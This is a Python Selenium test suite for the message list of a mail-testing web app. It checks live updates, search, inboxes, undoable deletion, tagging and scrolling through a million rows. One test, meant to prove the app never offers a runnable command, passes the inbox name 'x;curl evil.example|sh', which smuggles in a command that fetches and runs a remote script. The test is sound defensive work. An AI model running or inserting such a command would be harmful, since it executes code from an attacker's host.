"""The list: live, searching, selecting, taking back, inboxes, and a million rows."""

import time

from selenium.webdriver.common.keys import Keys


def shows_new_mail_within_200_ms(page):
    page.open()
    page.run("""window.seen = new Promise((done) => new MutationObserver(() => {
        if (document.getElementById('rows').textContent.includes('lightning')) done(Date.now());
    }).observe(document.getElementById('rows'), {childList: true, subtree: true}))""")
    stored = page.deliver("lightning")
    seen = page.driver.execute_async_script("window.seen.then(arguments[0])") / 1000
    assert seen - stored < 0.2, f"{(seen - stored) * 1000:.0f} ms"
    print(f"  live after {(seen - stored) * 1000:.0f} ms")


def shares_one_stream_among_many_pages(page):
    """A browser makes six connections to a server: streams of pages in sight, or kept for the way back, must leave some."""
    page.deliver("for all pages")
    first = page.driver.current_window_handle
    for _ in range(4):
        page.open()
    for _ in range(7):
        page.driver.switch_to.new_window("tab")
        page.open()
    page.wait("(await (await fetch('metrics')).text()).includes('creel_http_subscribers 1\\n')")
    page.deliver("seen by all")
    for handle in page.driver.window_handles:
        page.driver.switch_to.window(handle)
        page.wait("document.getElementById('rows').textContent.includes('seen by all')")
        if handle != first:
            page.driver.close()
    page.driver.switch_to.window(first)
    page.driver.get(f"{page.url}api/rules")
    page.driver.back()
    page.wait("document.getElementById('rows')?.textContent.includes('seen by all')")
    page.deliver("after the way back")
    page.wait("document.getElementById('rows').textContent.includes('after the way back')")


def searches_and_points_at_mistakes(page):
    page.deliver("needle in a haystack")
    page.open()
    page.press("/")
    page.press("subject:needle", Keys.ENTER)
    page.wait("document.getElementById('count').textContent === '1 message'")
    assert "q=subject%3Aneedle" in page.driver.current_url
    page.click("#save")
    page.wait("document.getElementById('save').textContent === '★'")
    page.click("#save")
    page.wait("document.getElementById('save').textContent === '☆'")
    page.run("document.getElementById('rows').focus()")
    saved = "return [...document.querySelectorAll('#completions option')].some((option) => option.value === 'subject:needle')"
    for is_saved in (True, False):
        page.press("s", "/")
        assert page.run(saved) == is_saved
        page.run("document.getElementById('rows').focus()")
    page.open(q="(needle")
    page.wait("!document.getElementById('search-error').hidden")
    page.open(q="subject:needle")
    assert page.text("#rows").count("needle") == 1


def tells_unread_and_read_apart(page):
    page.deliver("fresh news")
    page.open(q="subject:\"fresh news\"")
    page.wait("document.querySelector('#rows .unread')")
    page.press("j", Keys.ENTER)
    page.wait("!document.querySelector('#rows .unread')")


def switches_inboxes(page):
    page.deliver("for the team", user="team-a")
    page.open()
    page.wait("[...document.querySelectorAll('#inbox option')].some((option) => option.value === 'team-a')")
    page.press("gi")
    page.wait("document.activeElement.id === 'inbox'")
    option = "[...document.querySelectorAll('#inbox option')].find((option) => option.value === 'team-a')"
    assert page.run(f"return [{option}.text, {option}.title]") == ["team-a (1)", "1 message"]
    # What a menu under the keys chooses, it chooses by the letters of a name.
    page.press("team-a", Keys.TAB)
    page.wait("location.hash.includes('inbox=team-a') && document.getElementById('count').textContent === '1 message'")
    page.press(Keys.ESCAPE)
    page.deliver("for the team again", user="team-a")
    page.wait(f"{option}.text === 'team-a (2)' && document.getElementById('count').textContent === '2 messages'")
    page.open()
    page.wait("[...document.querySelectorAll('#rows .tag')].some((tag) => tag.textContent === 'team-a')")
    page.run("[...document.querySelectorAll('#rows .tag')].find((tag) => tag.textContent === 'team-a').click()")
    page.wait("location.hash === '#q=inbox%3Ateam-a' && document.getElementById('count').textContent === '2 messages'")


def tells_how_to_send_mail_here(page):
    page.open(inbox="nobody-wrote-yet")
    page.wait("document.querySelector('#empty .copyable')")
    told = page.text("#empty")
    assert f"--server 127.0.0.1:{page.smtp}" in told and "--auth-user nobody-wrote-yet" in told, told
    assert "STARTTLS is offered" in told and "Creel's own" in told, told
    names = page.run("""return [...[...document.querySelectorAll('label')].find((label) => label.textContent.startsWith('Settings for'))
        .control.options].map((option) => option.value)""")
    assert len(names) > 12, names
    for name in names:
        page.choose("Settings for", name)
        settings = page.text("#empty pre")
        assert "127.0.0.1" in settings and str(page.smtp) in settings and "nobody-wrote-yet" in settings, settings
    page.press(Keys.ESCAPE)
    page.press("ga")
    page.wait("document.querySelector('dialog[open] .copyable')")
    page.press(Keys.ESCAPE)


def offers_no_settings_that_act(page):
    """An inbox is named in the address, which anybody can write; what is copied goes into a shell."""
    page.open(inbox="x;curl evil.example|sh")
    page.wait("document.querySelector('#empty .copyable') || !document.getElementById('search-error').hidden")
    assert "evil" not in page.text("#empty pre")


def lets_go_what_is_no_longer_kept(page):
    page.open()
    page.driver.execute_async_script("""const [done] = arguments; fetch("api/inboxes/few", {method: "PUT",
        headers: {"content-type": "application/json"}, body: JSON.stringify({retention: {count: 1}})}).then(done)""")
    page.deliver("the former", user="few")
    page.open(inbox="few")
    page.wait("document.getElementById('rows').textContent.includes('the former')")
    assert page.run("return document.getElementById('pruned').hidden")
    page.deliver("the latter", user="few")
    page.wait("!document.getElementById('pruned').hidden && document.querySelectorAll('#rows [data-id]').length === 1")
    assert "the latter" in page.text("#rows")


def tells_of_mail_that_came_above(page):
    for number in range(30):
        page.deliver(f"filler {number}")
    page.open()
    page.run("document.getElementById('list').scrollTop = 500")
    page.deliver("far above")
    page.wait("document.getElementById('fresh').textContent.includes('1 new')")
    page.click("#fresh")
    page.wait("document.getElementById('fresh').hidden && document.getElementById('rows').innerText.includes('far above')")


def stays_where_it_is_in_a_search(page):
    """Whether rows come or go above what is looked at."""
    for number in range(250):
        page.deliver(f"steady {number}")
    page.open(q="subject:steady")
    place = """Object.fromEntries([...document.querySelectorAll('#rows [data-id]')].map((row) => [row.dataset.id, row.getBoundingClientRect().top]))"""
    for depth in (500, 1e9):
        page.run("document.getElementById('list').scrollTop = arguments[0]", depth)
        page.wait("new Promise((done) => requestAnimationFrame(() => setTimeout(() => done(document.querySelector('#rows [data-id]') && !document.querySelector('#rows > div:not([data-id])')))))")
        before = page.run(f"return {place}")
        page.deliver("steady and new")
        page.wait("document.getElementById('fresh').textContent.includes('1 new') && !document.getElementById('fresh').hidden")
        page.wait("document.getElementById('count').textContent === '251 messages'")
        newest = page.read("api/messages?limit=1")["messages"][0]["id"]
        page.run("return fetch(`api/messages/${arguments[0]}`, {method: 'DELETE'}).then(() => null)", newest)
        page.wait("document.getElementById('fresh').hidden && document.getElementById('count').textContent === '250 messages'")
        # Rows of pages that are not here yet come a moment later.
        page.wait(f"""(() => {{ const after = {place}; const kept = Object.keys(after).filter((id) => id in arguments[0]);
            return kept.length > 5 && kept.every((id) => Math.abs(after[id] - arguments[0][id]) < 1); }})()""", before)


def leaves_half_a_search_alone(page):
    page.deliver("half a search")
    page.open()
    page.run("""window.told = []; const error = document.getElementById('search-error');
        new MutationObserver(() => { if (!error.hidden) window.told.push(error.textContent); }).observe(error, {attributes: true, childList: true})""")
    page.press("/")
    for key in 'subject:"half a search"':
        page.press(key)
        time.sleep(0.05 if key.isalpha() else 0.4)
    page.wait("document.getElementById('count').textContent === '1 message' || /^[0-9]+ messages$/.test(document.getElementById('found').textContent)")
    assert page.run("return window.told") == []
    page.press(" larger:much")
    page.wait("document.querySelector('#search-error mark')")


def tells_what_a_search_found_once(page):
    page.deliver("counted words")
    page.open(q='subject:"counted words"')
    found = page.wait("document.getElementById('found').textContent")
    page.deliver("counted words")
    page.wait("document.getElementById('count').textContent !== arguments[0]", found)
    assert page.text("#found") == found and page.run("return document.getElementById('found').role") == "status"


def says_how_many_it_cannot_select(page):
    page.open()
    # In one go: who asks for the list anew learns how many there are.
    page.run("""return import('./store.js').then(({pages}) => {
        pages.length += 5000; document.body.dispatchEvent(new KeyboardEvent('keydown', {key: 'A', bubbles: true})); })""")
    page.wait("/[5-9],[0-9]{3} messages not loaded/.test(document.getElementById('toasts').textContent)")
    assert page.run("return document.querySelectorAll('#rows [data-id]:not(.selected)').length") == 0
    page.press(Keys.ESCAPE)
    page.wait("!document.querySelector('#rows .selected')")


def takes_deletions_back(page):
    for number in range(3):
        page.deliver(f"bulk {number}")
    page.open(q="subject:bulk")
    page.press("x", "j", "x")
    page.wait("document.getElementById('bulk').innerText.includes('2 messages selected')")
    page.press("#")
    page.wait("document.querySelectorAll('#rows .leaving').length === 2")
    page.click(".toast button")
    page.wait("document.querySelectorAll('#rows .leaving').length === 0")
    page.press("#")
    page.wait("document.querySelectorAll('#rows [data-id]').length === 2", patience=12)


def keeps_to_the_message_it_is_at(page):
    """Rows come and go; what is done is done to the message that somebody went to."""
    for number in range(3):
        page.deliver(f"aimed at {number}")
    page.open(q="subject:aimed")
    page.press("j", "k", "j")
    page.wait("document.querySelector('#rows .current')?.textContent.includes('aimed at 1')")
    page.deliver("aimed at from above")
    page.wait("document.querySelectorAll('#rows [data-id]').length === 4")
    page.wait("document.querySelector('#rows .current')?.textContent.includes('aimed at 1')")
    page.press("x")
    page.wait("document.querySelector('#rows .selected')?.textContent.includes('aimed at 1')")
    page.press("go")
    page.wait("document.querySelector('#page svg')")
    page.press("#", "j", Keys.ESCAPE)
    page.wait("document.body.dataset.open === 'list'")
    assert page.run("return document.querySelectorAll('#rows .leaving').length") == 0


def deletes_what_was_on_the_list_and_no_more(page):
    for number in range(2):
        page.deliver(f"old {number}", user="sweep")
    page.open(inbox="sweep")
    page.press(":")
    page.wait("document.querySelector('dialog[open] #palette')")
    page.press("delete everything", Keys.ENTER)
    page.wait("document.getElementById('toasts').textContent.includes('2 messages will be deleted')")
    page.deliver("came since", user="sweep")
    page.wait("document.querySelectorAll('#rows [data-id]').length === 3")
    page.click(".toast [aria-label=Dismiss]")
    page.wait("document.querySelectorAll('#rows [data-id]').length === 1")
    assert "came since" in page.text("#rows")
    page.press("#")
    page.wait("document.querySelector('#rows .leaving')")
    page.press("z")
    page.wait("!document.querySelector('#rows .leaving')")


def lets_single_keys_do_nothing(page):
    page.deliver("without keys")
    page.open()
    for is_on in (False, True):
        page.press(Keys.CONTROL + "k")
        page.wait("document.querySelector('dialog[open] #palette')")
        page.press("single keys", Keys.ENTER)
        page.wait("!document.getElementById('dialog').open")
        page.run("document.getElementById('rows').focus()")
        page.press("x")
        page.wait("(document.querySelector('#rows .selected') !== null) === arguments[0]", is_on)


def tags_what_is_selected(page):
    page.deliver("tag me")
    page.open(q="subject:\"tag me\"")
    page.press(Keys.ENTER)
    page.wait("document.querySelector('#message h2')")
    page.press("t", "release, urgent", Keys.ENTER)
    page.wait("document.querySelectorAll('#message .tag').length === 2")
    page.press(Keys.ESCAPE, "x", "t")
    page.wait("document.querySelector('dialog[open] h2')?.textContent === 'Add tags'")
    page.press("later", Keys.ENTER)
    page.wait("document.querySelectorAll('#rows .tag').length === 3")
    page.press(Keys.ESCAPE, Keys.ENTER)
    page.wait("document.querySelectorAll('#message .tag').length === 3")
    page.run("[...document.querySelectorAll('#message .tag')].find((tag) => tag.textContent === 'urgent').focus()")
    page.press(Keys.ENTER)
    page.wait("location.hash === '#q=tag%3Aurgent' && document.querySelector('#rows .tag')")


# Stands for a server with a million messages, of which nine million before them are gone; all else is asked of the real one.
MILLION = """
const count = 1000000, gone = 9000000, real = window.fetch.bind(window);
const row = (id) => ({id, inbox: "default", receivedAt: "2026-01-31T09:00:00Z", from: {name: `Sender ${id}`, address: "a@b.example"},
  to: [], cc: [], subject: `Message ${id}`, messageID: null, date: null, size: 2048, snippet: "How it begins", attachments: id % 3,
  envelope: {reversePath: "a@b.example", forwardPaths: ["c@d.example"]}, session: null, seen: id % 2 === 0, tags: [], score: 1.5,
  severity: "warning", duplicateOf: null});
window.fetch = (path, options) => {
  if (!/^api\\/messages(\\?|$)/.test(path) || (options && options.method)) return real(path, options);
  const given = new URLSearchParams(path.split("?")[1]);
  const first = Number(given.get("before") ?? gone + count + 1) - 1, limit = Number(given.get("limit"));
  const messages = []; for (let id = first; id > Math.max(gone, first - limit); id -= 1) messages.push(row(id));
  const last = messages.at(-1)?.id ?? 0;
  return Promise.resolve(new Response(JSON.stringify({messages, matched: count, matchedExactly: true,
    next: last > gone + 1 ? last : null, removedBefore: null}), {headers: {"content-type": "application/json"}}));
};
"""

# Of 120 frames, in milliseconds. One of five rounds has to hold it: the first has code to compile, and a machine that does
# something else, without a graphics card, is late for reasons that are not ours.
LONGEST = 50

SCROLL = """
const done = arguments[0], list = document.getElementById("list");
let last = performance.now(), frames = 0, tasks = 0, nodes = 0; const times = [];
new PerformanceObserver((entries) => { tasks += entries.getEntries().length; }).observe({type: "longtask"});
function frame(now) {
  times.push(now - last); last = now; frames += 1;
  nodes = Math.max(nodes, document.querySelectorAll("#rows > div").length);
  list.scrollTop += frames % 40 === 0 ? list.scrollHeight / 6 : 300;
  if (frames < 120) requestAnimationFrame(frame);
  else done({longest: Math.round(Math.max(...times)), most: times.sort((a, b) => a - b)[Math.floor(frames * 0.9)], tasks, nodes,
    heap: performance.memory.usedJSHeapSize});
}
requestAnimationFrame((now) => { last = now; frame(now); });
"""


def scrolls_a_million_rows(page):
    page.wait("document.getElementById('count').textContent.startsWith('1,000,000')")
    for _ in range(5):
        page.run("document.getElementById('list').scrollTop = 0")
        figures = page.driver.execute_async_script(SCROLL)
        print(f"  nine frames of ten within {figures['most']:.0f} ms, longest {figures['longest']:.0f} ms, {figures['tasks']} long tasks, {figures['nodes']} rows drawn, "
              f"heap {figures['heap'] / 1e6:.1f} MB")
        if figures["longest"] <= LONGEST:
            break
    assert figures["longest"] <= LONGEST and figures["nodes"] < 100 and figures["heap"] < 60e6, figures
    page.run("document.getElementById('list').scrollTop = 1e9")
    page.wait("/Message 9000001(\\D|$)/.test(document.getElementById('rows').innerText)")
    assert page.text("#count").startswith("1,000,000"), page.text("#count")
    page.press(Keys.HOME)
    page.wait("/Message 10000000/.test(document.getElementById('rows').innerText)")


def stays_where_it_is_under_new_mail(page):
    """However many pixels of the list one of the screen stands for, and however many of those one of the page."""
    page.wait("document.getElementById('count').textContent.startsWith('1,000,000')")
    for scale in (1, 8):
        page.cdp("Emulation.setDeviceMetricsOverride", width=1280, height=800, deviceScaleFactor=scale, mobile=False)
        page.run("document.getElementById('list').scrollTop = 1e9")
        # Where the list ends: the rows that are added below are none that the server counts, should it be asked meanwhile.
        page.wait("document.querySelector(`#row-${document.querySelector('#rows > div').ariaSetSize - 1}[data-id]`)")
        page.run("document.getElementById('list').scrollTop = 123456")
        at = """const [row] = [...document.querySelectorAll('#rows [data-id]')].filter((row) => row.getBoundingClientRect().top > 200)
            .sort((one, other) => one.dataset.index - other.dataset.index)"""
        page.wait("new Promise((done) => requestAnimationFrame(() => setTimeout(() => done(!document.querySelector('#rows > div:not([data-id])')))))")
        before = page.run(f"{at}; return [row.dataset.id, row.getBoundingClientRect().top]")
        page.run("""return Promise.all([import('./store.js'), import('./views/list.js')]).then(([{pages}, {drawList}]) => {
            for (let count = 1; count <= 12; count += 1) { pages.add({...pages.at(0), id: pages.at(0).id + 1}); drawList(); }
        })""")
        after = page.run("return document.querySelector('#rows [data-id=\"' + arguments[0] + '\"]')?.getBoundingClientRect().top", before[0])
        assert after is not None and abs(after - before[1]) < 1, (scale, before, after)
    page.cdp("Emulation.setDeviceMetricsOverride", width=1280, height=800, deviceScaleFactor=1, mobile=False)


def opens_what_a_held_key_comes_to(page):
    """Browsers take 200 new addresses in ten seconds, and no more."""
    page.wait("document.getElementById('count').textContent.startsWith('1,000,000')")
    page.run("""window.press = (key, repeat = false) => document.getElementById('rows').dispatchEvent(new KeyboardEvent('keydown', {key, repeat, bubbles: true}));
        const answers = window.fetch, message = {headers: [], attachmentList: [], inlineList: [], parts: [], defects: [], codes: [], links: [], html: null, text: ""};
        window.fetch = (path, ...rest) => (/messages.\\d+$/.test(path)
            ? Promise.resolve(new Response(JSON.stringify({...row(Number(path.match(/\\d+$/)[0])), ...message, seen: true}))) : answers(path, ...rest))""")
    page.wait("(press('Home'), press('Enter'), document.body.dataset.open === 'message')")
    page.run("""window.presses = window.addresses = 0;
        const write = history.replaceState.bind(history);
        history.replaceState = (...given) => { window.addresses += 1; write(...given); };
        const timer = setInterval(() => { press('j', presses > 0); if ((window.presses += 1) === 240) clearInterval(timer); }, 8)""")
    page.wait("presses === 240", patience=90)
    assert page.run("return addresses") < 50
    page.wait("document.querySelector('#rows .open.current') && location.hash.includes(`id=${document.querySelector('#rows .current').dataset.id}`)")
    assert page.run("return Number(document.querySelector('#rows .current').dataset.index)") > 200


def keeps_its_rows_where_one_page_cannot_be_read(page):
    page.wait("document.getElementById('count').textContent.startsWith('1,000,000')")
    page.run("""window.answers = window.fetch; window.fetch = (path, ...rest) => (path.startsWith('api/messages?') && path.includes('before=')
        ? Promise.resolve(new Response('{"status": 503, "detail": "too slow"}', {status: 503, headers: {"content-type": "application/problem+json"}}))
        : window.answers(path, ...rest)); document.getElementById('list').scrollTop = 60000""")
    page.wait("document.getElementById('search-error').textContent.includes('too slow')")
    assert page.text("#count").startswith("1,000,000") and page.run("return document.getElementById('q').getAttribute('aria-invalid')") == "false"
    page.run("window.fetch = window.answers")
    page.wait("document.querySelector('#rows [data-id]') && !document.querySelector('#rows > div:not([data-id])')")


def shows_what_it_knows_while_nobody_answers(page):
    page.wait("document.getElementById('count').textContent.startsWith('1,000,000')")
    page.run("document.getElementById('list').scrollTop = 1500")
    page.wait("/Message 99998\\d\\d/.test(document.getElementById('rows').innerText) && !document.querySelector('#rows > div:not([data-id])')")
    before = page.text("#rows")
    page.run("""window.asked = 0; window.fetch = () => { window.asked += 1; return Promise.reject(new TypeError('nobody there')); };
        return import('./store.js').then(({pages}) => { pages.refreshAfter(); })""")
    page.wait("window.asked > 0 && new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => done(true))))")
    assert page.text("#rows") == before, page.text("#rows")


CHECKS = [shows_new_mail_within_200_ms, shares_one_stream_among_many_pages, searches_and_points_at_mistakes,
          tells_unread_and_read_apart, switches_inboxes, tells_how_to_send_mail_here, offers_no_settings_that_act, lets_go_what_is_no_longer_kept,
          tells_of_mail_that_came_above, stays_where_it_is_in_a_search, leaves_half_a_search_alone, tells_what_a_search_found_once,
          says_how_many_it_cannot_select, takes_deletions_back, keeps_to_the_message_it_is_at, deletes_what_was_on_the_list_and_no_more,
          lets_single_keys_do_nothing, tags_what_is_selected]

MILLION_CHECKS = [scrolls_a_million_rows, stays_where_it_is_under_new_mail, opens_what_a_held_key_comes_to,
                  keeps_its_rows_where_one_page_cannot_be_read, shows_what_it_knows_while_nobody_answers]
